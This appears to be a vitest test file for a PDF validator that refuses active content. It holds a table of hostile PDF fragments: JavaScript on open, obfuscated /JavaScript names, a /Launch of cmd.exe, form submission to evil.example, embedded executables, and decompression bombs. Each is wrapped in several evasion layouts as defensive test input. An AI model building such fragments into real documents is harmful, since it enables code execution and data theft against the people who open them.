import PDFDocument from 'pdfkit'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { expect, onTestFinished, test } from 'vitest'
import { objectStream, openPdf, stream } from '../../../../test/oversight/files/build-pdf.ts'
import { collectBytes } from '../../../papers/collect-bytes.ts'
import { Refusal } from '../../../refusal.ts'
import { checkRows } from '../../../test/check-rows.ts'
import { requirePassivePdf } from './require-passive-pdf.ts'

const catalog = '<< /Type /Catalog /Pages 2 0 R >>'
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>'

async function look(pdf: Buffer): Promise<string> {
  const folder = mkdtempSync(join(tmpdir(), 'tower-pdf-'))
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }))
  const path = join(folder, 'a.pdf')
  writeFileSync(path, pdf)
  return requirePassivePdf(path).then(
    () => 'taken',
    (error: unknown) => (error instanceof Refusal ? error.code : 'failed'),
  )
}

/** What a document must not hold: the places where others have put it. */
const hostile: Record<string, string> = {
  'a program as the document opens': '<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>',
  'a program in a list of names': '<< /Names << /JavaScript 9 0 R >> >>',
  'a program in letters and numbers': '<< /S /Java#53cript /J#53 9 0 R >>',
  'a program behind a remark': '<< /S %\n/JavaScript /#4aS 9 0 R >>',
  'a program beside a sound': '<< /S /Rendition /JS (app.alert(1)) >>',
  'a program of the reader’s machine': '<< /A << /S /L#61unch /F (cmd.exe) >> >>',
  'a form that is sent': '<< /A << /S /SubmitForm /F (https://evil.example) >> >>',
  'a form that is filled from a file': '<< /A << /S /ImportData /F (a.fdf) >> >>',
  'a form of XML': '<< /AcroForm << /XFA 9 0 R >> >>',
  'a file in a list of names': '<< /Names << /EmbeddedFiles << /Names [(x.exe) 9 0 R] >> >> >>',
  'a file on a page': '<< /Type /Filespec /F (x.exe) /EF << /F 9 0 R >> >>',
  'a film with buttons': '<< /Subtype /RichMedia /RichMediaContent 9 0 R >>',
  'another document': '<< /A << /S /GoToR /F (b.pdf) >> >>',
  'a document within': '<< /A << /S /GoToE /T 9 0 R >> >>',
  'an address as the document opens':
    '<< /OpenAction << /Type /Action /S /URI /URI (https://evil.example) >> >>',
  'an address as a page opens': '<< /AA << /O << /S /URI /URI (https://evil.example) >> >> >>',
}

test('a PDF that does more than being read is refused, openly or in packed objects', async (context) => {
  const places: Record<string, (object: string) => Buffer> = {
    openly: (object) => openPdf([catalog, object]),
    'in packed objects': (object) => openPdf([catalog, objectStream(['<< /Title (a) >>', object])]),
    'packed twice': (object) => openPdf([catalog, objectStream([object], { pack: 2 })]),
    'in objects that are not called so': (object) => openPdf([objectStream([object], { entries: '' })]),
    'in a string that a table points into': (object) => openPdf([`<< /Title (7 0 obj ${object} endobj) >>`]),
    'in what is called data': (object) => openPdf([stream('', `8 0 obj ${object} endobj`)]),
    'behind a remark in its number': (object) => openPdf([stream('', `8 %a\n0 %b\nobj ${object} endobj`)]),
  }
  const rows = Object.entries(hostile).flatMap(([what, object]) =>
    Object.entries(places).map(([place, write]) => ({ what: `${what}, ${place}`, pdf: write(object) })),
  )
  await checkRows(context, rows, async ({ what, pdf }) =>
    expect(await look(pdf), what).toBe('files.active_content'),
  )
})

test('what a reader calls by itself is followed to the address it opens', async () => {
  const address = '<< /S /URI /URI (https://evil.example) >>'
  const ways = [
    ['<< /OpenAction 2 0 R >>', address],
    ['<< /OpenAction 2 0 R >>', '<< /S /GoTo /D [3 0 R /Fit] /Next 3 0 R >>', address],
    ['<< /AA 2 0 R >>', '<< /O 3 0 R >>', address],
    ['<< /AA << /C 2 0 R >> >>', address],
    ['<< /OpenAction 100 0 R >>', objectStream([address])],
  ]
  for (const objects of ways) expect(await look(openPdf(objects))).toBe('files.active_content')
})

test('what can not be looked into is refused: bombs, locks, damage, and objects within each other', async () => {
  const bomb = deflateSync(Buffer.alloc(40_000_000, '1 0 '))
  const within = Buffer.from(`%PDF-1.4\n${'1 0 obj ( '.repeat(200_000)}`)
  const locked = deflateSync(Buffer.from('100 0 << >>')).map((byte) => byte ^ 0x5a)
  const head = '/Type /ObjStm /N 1 /First 6'
  // Each head begins where the same objects do: they would be read again for each.
  const heads = Array.from({ length: 4 }, (_, at) => `${at + 1} 0 obj << /N 70000 /First 0 >> stream `)
  const again = Array.from({ length: 70_000 }, (_, at) => `0 ${at * 4}`)
  for (const pdf of [
    Buffer.from(`%PDF-1.5\n${heads.join('')}\n${again.join(' ')}`),
    openPdf([stream(`${head} /Filter /FlateDecode`, bomb)]),
    openPdf([stream(`${head} /Filter [/FlateDecode /FlateDecode]`, deflateSync(bomb))]),
    openPdf([stream(`${head} /Filter /FlateDecode`, Buffer.from(locked))]),
    openPdf([stream(`${head} /Filter /LZWDecode`, 'abc')]),
    openPdf([stream(`${head} /Filter 9 0 R`, 'abc')]),
    openPdf([stream(`${head} /First 9 /Filter /FlateDecode`, deflateSync('100 0 << >>'))]),
    within,
  ])
    expect(await look(pdf)).toBe('files.active_content')
})

test('ordinary PDFs are taken, also where they speak of JavaScript and lead to addresses', async (context) => {
  const text = stream('', 'BT /F1 12 Tf (HTML/JavaScript, /Launch and an obj /S /XFA) Tj ET')
  const written = new PDFDocument({
    info: { Title: 'HTML/JavaScript (a course)' },
    lang: 'en-US',
    tagged: true,
  })
  const bytes = collectBytes(written)
  written.text('Learn /JavaScript', { link: 'https://shop.example/receipt' }).outline.addItem('Page 1')
  written.end()
  const link = '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://shop.example) >> >>'
  const rows: Record<string, Buffer> = {
    'as a shop prints it': openPdf([
      catalog,
      pages,
      page,
      text,
      '<< /Title (HTML/JavaScript \\) /Launch) >>',
    ]),
    'as pdfkit writes it': await bytes,
    'as a browser writes it': openPdf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /XYZ null null 0] /ViewerPreferences << /DisplayDocTitle true >> >>',
      ...[pages, page, text, link, '<< /S /URI /URI (https://shop.example/a) >>'],
    ]),
    'as Word and TeX write it': openPdf([
      objectStream([
        '<< /Type /Catalog /Pages 101 0 R /Outlines 102 0 R /OpenAction 104 0 R /AcroForm << /Fields [] >> >>',
        pages,
        '<< /Type /Outlines /First 103 0 R /Last 103 0 R /Count 1 >>',
        '<< /Title (/JavaScript) /Parent 102 0 R /Next 105 0 R /A << /S /URI /URI (https://shop.example) >> >>',
        '<< /S /GoTo /D [100 0 R /Fit] >>',
        link,
      ]),
      stream(
        '/Type /XRef /Size 9 /W [1 2 1] /DecodeParms << /Predictor 12 /Columns 4 >> /Filter /FlateDecode',
        deflateSync('abc'),
      ),
    ]),
    'as a scanner sends it': openPdf([
      catalog,
      pages,
      page,
      stream('/Subtype /Image /Filter /DCTDecode', '\xff\xd8/JS \xff\xd9'),
    ]),
  }
  await checkRows(context, Object.entries(rows), async ([what, pdf]) =>
    expect(await look(pdf), what).toBe('taken'),
  )
})
